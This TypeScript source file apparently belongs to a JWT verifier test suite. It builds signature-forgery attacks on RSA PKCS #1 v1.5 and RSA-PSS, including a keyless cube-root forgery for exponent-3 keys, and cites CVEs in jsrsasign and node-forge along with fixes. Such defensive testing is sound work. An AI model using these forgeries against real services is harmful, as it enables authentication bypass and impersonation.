import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { bytesToInteger, integerToBytes, wholeRoot } from '../big-integer.ts';
import { concatBytes, derNull, derOctetString, derSequence, writeDer } from '../der.ts';
import { decodeBase64Url, encodeUtf8 } from '../encoding.ts';
import type { Jwk } from '../jwk.ts';
import {
  hashFunction,
  type PssParts,
  rsaBytes,
  signBlock,
  writeDigestInfo,
  writePkcs1Block,
  writePssBlock,
} from '../rsa-block.ts';
import { hashOf } from '../signatures.ts';
import { freshClaims, joinToken, writeInput } from '../unsafe-writer.ts';

/** D06. */
export const pkcs1Laxness: TokenAttack = {
  kind: 'token',
  id: 'D06',
  title: 'RSA PKCS #1 v1.5 padding that is not checked to the last byte',
  severity: 'high',
  cwe: 347,
  source: ['RFC 8017 §8.2.2', 'RFC 8017 §9.2'],
  how: 'Under an RSA signature lies a block: fixed bytes, much padding, the name of the hash, the hash. A verifier that parses it instead of comparing the whole takes blocks with free bytes, and with the exponent 3 a block with enough of them is found by taking a cube root, without the key. The blocks are signed by the issuer’s key, so nothing but the padding is wrong; where the exponent is 3, one is made without it.',
  victims: [
    { what: 'jsrsasign < 10.2.0', advisory: 'CVE-2021-30246' },
    { what: 'node-forge < 1.3.0', advisory: 'CVE-2022-24771' },
    { what: 'node-forge < 1.3.0', advisory: 'CVE-2022-24772' },
    { what: 'node-forge < 1.3.0', advisory: 'CVE-2022-24773' },
  ],
  fix: 'Build the block that ought to be there and compare all of it, or leave it to the platform. Require a signature of exactly the modulus’ length, and keys with the exponent 65537.',
  needs: ['rsa-token'],
  needsOne: ['signing-key', 'rsa-public-key'],
  expect: 'refused',
  forge: async (context) => {
    if (!String(context.good.header['alg']).startsWith('RS')) return [];
    return [...(await bentBlocks(context)), ...(await cubeRoot(context))];
  },
};

const hashIdentifiers = {
  'SHA-256': '2.16.840.1.101.3.4.2.1',
  'SHA-384': '2.16.840.1.101.3.4.2.2',
  'SHA-512': '2.16.840.1.101.3.4.2.3',
};

/** Everything but the padding is right. */
async function bentBlocks(context: ForgeContext): Promise<readonly Forgery[]> {
  const key = privateKeyOf(context);
  if (key === undefined) return [];
  const alg = String(context.good.header['alg']);
  const size = rsaBytes(key);
  const { input, digest, identifier } = await digestFor(context, alg);
  const info = writeDigestInfo(identifier, digest);
  const parts = { content: info };
  const free = size - 3 - 8 - info.length;
  const blocks: Readonly<Record<string, Uint8Array>> = {
    'bytes-behind-the-hash': writePkcs1Block(size, { ...parts, padding: 8 }),
    'ones-behind-the-hash': writePkcs1Block(size, { ...parts, padding: 8, filling: 0xff }),
    'one-byte-behind-the-hash': writePkcs1Block(size, { ...parts, padding: free + 7 }),
    'no-padding': writePkcs1Block(size, { ...parts, padding: 0 }),
    'padding-of-zeros': writePkcs1Block(size, { ...parts, paddingByte: 0 }),
    'padding-of-other-bytes': writePkcs1Block(size, { ...parts, paddingByte: 0xfe }),
    'block-of-type-zero': writePkcs1Block(size, { ...parts, start: [0, 0], paddingByte: 0 }),
    'block-of-type-two': writePkcs1Block(size, { ...parts, start: [0, 2] }),
    'no-separator': writePkcs1Block(size, { ...parts, separator: [] }),
    'two-separators': writePkcs1Block(size, { ...parts, separator: [0, 0] }),
    'hash-alone': writePkcs1Block(size, { content: digest }),
    'hash-as-string': writePkcs1Block(size, { content: derOctetString(digest) }),
    'name-of-sha-1': writePkcs1Block(size, { content: writeDigestInfo('1.3.14.3.2.26', digest) }),
    'name-of-md5': writePkcs1Block(size, { content: writeDigestInfo('1.2.840.113549.2.5', digest) }),
    'name-of-nothing': writePkcs1Block(size, { content: writeDigestInfo('1.2.3.4', digest) }),
    'bytes-among-the-parameters': writePkcs1Block(size, {
      content: writeDigestInfo(identifier, digest, writeDer(0x04, new Uint8Array(32))),
    }),
    'bytes-behind-the-parameters': writePkcs1Block(size, {
      content: writeDigestInfo(identifier, digest, concatBytes(derNull, writeDer(0x04, new Uint8Array(16)))),
    }),
    'bytes-within-the-structure': writePkcs1Block(size, { content: derSequence(info.subarray(2), new Uint8Array(8)) }),
    'long-form-of-length': writePkcs1Block(size, { content: concatBytes(Uint8Array.of(0x30, 0x81), info.subarray(1)) }),
    'structure-called-a-set': writePkcs1Block(size, { content: concatBytes(Uint8Array.of(0x31), info.subarray(1)) }),
    'hash-called-no-string': writePkcs1Block(size, {
      content: info.with(info.length - digest.length - 2, 0x84),
    }),
    'hash-cut-to-half': writePkcs1Block(size, {
      content: writeDigestInfo(identifier, digest.subarray(0, digest.length / 2)),
    }),
    'empty-hash': writePkcs1Block(size, { content: writeDigestInfo(identifier, new Uint8Array()) }),
  };
  const right = writePkcs1Block(size, parts);
  const zeroBefore = concatBytes(Uint8Array.of(0), signBlock(key, right));
  return [
    ...Object.entries(blocks).map(([variant, block]) => signed(variant, input, alg, key, block)),
    { variant: 'signature-with-a-zero-before', token: joinToken(input, zeroBefore), proof: { kind: 'bad-signature' } },
  ];
}

/** Without the key: the cube of the signature begins as the block should, and what follows is as it comes. */
async function cubeRoot(context: ForgeContext): Promise<readonly Forgery[]> {
  const jwk = context.keys[0]?.jwk;
  if (jwk?.n === undefined || bytesToInteger(decodeBase64Url(jwk.e ?? '')) !== 3n) return [];
  const alg = String(context.good.header['alg']);
  const { input, digest, identifier } = await digestFor(context, alg);
  const size = rsaBytes(jwk);
  const most = writePkcs1Block(size, { padding: 8, content: writeDigestInfo(identifier, digest), filling: 0xff });
  const root = wholeRoot(bytesToInteger(most), 3n);
  const token = joinToken(input, integerToBytes(root, size));
  const block = integerToBytes(root ** 3n, size);
  return [{ variant: 'cube-root', token, proof: { kind: 'rsa-block', alg, key: publicHalf(jwk), block } }];
}

/** D07. */
export const pssLaxness: TokenAttack = {
  kind: 'token',
  id: 'D07',
  title: 'RSA-PSS with another salt, another mask, another ending',
  severity: 'medium',
  cwe: 347,
  source: ['RFC 7518 §3.5', 'RFC 8017 §9.1.2'],
  how: 'PS256 fixes the parameters of PSS: the salt is as long as the hash, the mask is made with the same hash, the block ends with one byte. Code that takes the length of the salt from the block, another hash for the mask or bytes that it does not look at takes more signatures than there should be. The tokens are signed by the issuer’s key with one parameter changed.',
  victims: [{ what: 'jsrsasign < 8.0.17', advisory: 'CVE-2020-14968' }],
  fix: 'Give the platform the salt’s length explicitly, as long as the hash; several count as they find it by default. Require a signature of exactly the modulus’ length.',
  needs: ['signing-key', 'pss-token'],
  expect: 'refused',
  forge: async (context) => {
    const key = privateKeyOf(context);
    const alg = String(context.good.header['alg']);
    if (key === undefined || !alg.startsWith('PS')) return [];
    const size = rsaBytes(key);
    const { input, digest } = await digestFor(context, alg);
    const hash = hashFunction(hashOf(alg));
    const right = { hash, saltBytes: digest.length };
    const other = hashOf(alg) === 'SHA-512' ? 'SHA-256' : 'SHA-512';
    const bent: Readonly<Record<string, PssParts>> = {
      'no-salt': { ...right, saltBytes: 0 },
      'salt-of-eight': { ...right, saltBytes: 8 },
      'salt-of-twenty': { ...right, saltBytes: 20 },
      'salt-one-shorter': { ...right, saltBytes: digest.length - 1 },
      'salt-one-longer': { ...right, saltBytes: digest.length + 1 },
      'salt-as-long-as-fits': { ...right, saltBytes: size - digest.length - 2 },
      'mask-of-sha-1': { ...right, maskHash: hashFunction('SHA-1') },
      'mask-of-another-hash': { ...right, maskHash: hashFunction(other) },
      'sha-1-throughout': { hash: hashFunction('SHA-1'), saltBytes: 20 },
      'other-last-byte': { ...right, trailer: 0xcc },
      'padding-not-zero': { ...right, paddingByte: 0x11 },
      'other-separator': { ...right, separator: 2 },
      'no-separator': { ...right, separator: 0 },
    };
    const made = Object.entries(bent).map(async ([variant, parts]) =>
      signed(variant, input, alg, key, await writePssBlock(size, encodeUtf8(input), parts)),
    );
    const zeroBefore = signBlock(key, await writePssBlock(size, encodeUtf8(input), right));
    return [
      ...(await Promise.all(made)),
      {
        variant: 'signature-with-a-zero-before',
        token: joinToken(input, concatBytes(Uint8Array.of(0), zeroBefore)),
        proof: { kind: 'bad-signature' },
      },
    ];
  },
};

function signed(variant: string, input: string, alg: string, key: Jwk, block: Uint8Array): Forgery {
  const token = joinToken(input, signBlock(key, block));
  return { variant, token, proof: { kind: 'rsa-block', alg, key: publicHalf(key), block } };
}

function privateKeyOf({ signer }: ForgeContext): Jwk | undefined {
  return signer?.jwk.kty === 'RSA' && signer.jwk.d !== undefined ? signer.jwk : undefined;
}

function publicHalf({ kty, n, e }: Jwk): Jwk {
  return { kty: kty ?? 'RSA', n: n ?? '', e: e ?? '' };
}

interface Digest {
  readonly input: string;
  readonly digest: Uint8Array;
  readonly identifier: string;
}

async function digestFor(context: ForgeContext, alg: string): Promise<Digest> {
  const input = writeInput(context.good.header, freshClaims(context));
  const name = hashOf(alg);
  return { input, digest: await hashFunction(name)(encodeUtf8(input)), identifier: hashIdentifiers[name] };
}
